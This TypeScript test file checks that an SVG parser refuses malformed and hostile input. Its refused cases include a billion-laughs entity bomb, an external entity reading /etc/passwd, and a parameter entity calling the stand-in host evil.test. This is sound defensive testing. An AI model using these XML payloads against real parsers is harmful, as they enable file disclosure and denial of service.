import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { gzipSync } from "node:zlib";
import { readSvg, textOf } from "./read.ts";
import { gateSvg, rebuildSvg } from "./svg.ts";

const SVG = "http://www.w3.org/2000/svg";

const encode = (text: string): Uint8Array => new TextEncoder().encode(text);
const utf16 = (text: string): Uint8Array => Buffer.from(`\uFEFF${text}`, "utf16le");

const LAUGHS = `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><svg xmlns="${SVG}"><text>&c;</text></svg>`;

const REFUSED: Readonly<Record<string, Uint8Array>> = {
  nothing: encode(""),
  text: encode("hello"),
  "an unclosed element": encode(`<svg xmlns="${SVG}"><g></svg>`),
  "an unquoted value": encode(`<svg xmlns="${SVG}" width=1/>`),
  "a double attribute": encode(`<svg xmlns="${SVG}" width="1" width="2"/>`),
  "a double attribute by namespace": encode(
    `<svg xmlns="${SVG}" xmlns:a="http://www.w3.org/1999/xlink" xmlns:b="http://www.w3.org/1999/xlink" a:href="#" b:href="x"/>`,
  ),
  "two roots": encode(`<svg xmlns="${SVG}"/><svg xmlns="${SVG}"/>`),
  "text after the root": encode(`<svg xmlns="${SVG}"/>x`),
  "a prefix that is not declared": encode(`<svg xmlns="${SVG}"><a:b/></svg>`),
  "HTML as the root": encode(`<html xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="${SVG}"/></html>`),
  "another element as the root": encode(`<g xmlns="${SVG}"/>`),
  "svg of another namespace": encode(`<svg xmlns="urn:x"/>`),
  "an entity that is not declared": encode(`<svg xmlns="${SVG}"><text>&nbsp;</text></svg>`),
  "entities named like methods": encode(`<svg xmlns="${SVG}"><text>&constructor;&toString;</text></svg>`),
  "a billion laughs": encode(LAUGHS),
  "an entity of a file": encode(
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="${SVG}"><text>&x;</text></svg>`,
  ),
  "a parameter entity": encode(
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.test/">%x;]><svg xmlns="${SVG}"/>`,
  ),
  "a doctype inside": encode(`<svg xmlns="${SVG}"><!DOCTYPE svg></svg>`),
  "a control character by number": encode(`<?xml version="1.1"?><svg xmlns="${SVG}"><text>&#1;</text></svg>`),
  "a NUL": encode(`<svg xmlns="${SVG}"><text>\0</text></svg>`),
  "UTF-16 with its mark": utf16(`<svg xmlns="${SVG}"/>`),
  "UTF-16 without a mark": Buffer.from(`<svg xmlns="${SVG}"/>`, "utf16le"),
  "UTF-7 by name": encode(`<?xml version="1.0" encoding="UTF-7"?><svg xmlns="${SVG}"/>`),
  "UTF-16 by name only": encode(`<?xml version="1.0" encoding="UTF-16"?><svg xmlns="${SVG}"/>`),
  "Latin 1 by name": encode(`<?xml version="1.0" encoding="iso-8859-1"?><svg xmlns="${SVG}"/>`),
  "ISO-2022-JP by name": encode(`<?xml version="1.0" encoding="ISO-2022-JP"?><svg xmlns="${SVG}"/>`),
  "bytes that are not UTF-8": Uint8Array.of(
    ...encode(`<svg xmlns="${SVG}"><text>`),
    0xe4,
    ...encode("</text></svg>"),
  ),
  "an overlong slash": Uint8Array.of(
    ...encode(`<svg xmlns="${SVG}"><text>`),
    0xc0,
    0xaf,
    ...encode("</text></svg>"),
  ),
  "a surrogate in UTF-8": Uint8Array.of(
    ...encode(`<svg xmlns="${SVG}"><text>`),
    0xed,
    0xa0,
    0x80,
    ...encode("</text></svg>"),
  ),
  "compressed bytes": gzipSync(`<svg xmlns="${SVG}"/>`),
  "300 levels": encode(`<svg xmlns="${SVG}">${"<g>".repeat(300)}${"</g>".repeat(300)}</svg>`),
  "100 001 elements": encode(`<svg xmlns="${SVG}">${"<g/>".repeat(100_000)}</svg>`),
  "more than 10 MB": encode(`<svg xmlns="${SVG}">${" ".repeat(10 * 2 ** 20)}</svg>`),
};

describe("readSvg", () => {
  for (const [name, bytes] of Object.entries(REFUSED))
    it(`refuses ${name}`, () => {
      for (const refuse of [readSvg, rebuildSvg, gateSvg])
        assert.throws(() => refuse(bytes), { name: "HttpError", code: "broken_svg", message: /^expected / });
    });

  const TAKEN: Readonly<Record<string, string>> = {
    "a byte order mark": `\uFEFF<svg xmlns="${SVG}"/>`,
    "UTF-8 by name": `<?xml version="1.0" encoding="utf-8" standalone="no"?><svg xmlns="${SVG}"/>`,
    "a plain doctype": `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="${SVG}"/>`,
    "a doctype with attribute lists": `<!DOCTYPE svg [<!ATTLIST g x CDATA #IMPLIED>]><svg xmlns="${SVG}"/>`,
    "space and comments around": ` <!-- a --> <svg xmlns="${SVG}"/> <!-- b --> `,
  };
  for (const [name, text] of Object.entries(TAKEN))
    it(`takes ${name}`, () => {
      assert.deepEqual(readSvg(encode(text)), { name: "svg", attributes: new Map(), children: [] });
    });

  it("spells names by namespace, and text without seams", () => {
    const root = readSvg(
      encode(
        `<s:svg xmlns:s="${SVG}" xmlns:l="http://www.w3.org/1999/xlink" xmlns:e="urn:e" l:href="#a" e:b="c" xml:space="default">` +
          `a<!-- x --><![CDATA[<]]>&amp;<e:f/>b</s:svg>`,
      ),
    );
    assert.deepEqual(root, {
      name: "svg",
      attributes: new Map([
        ["xlink:href", "#a"],
        ["{urn:e}b", "c"],
        ["xml:space", "default"],
      ]),
      children: ["a<&", { name: "{urn:e}f", attributes: new Map(), children: [] }, "b"],
    });
    assert.equal(textOf(root), "a<&b");
  });
});
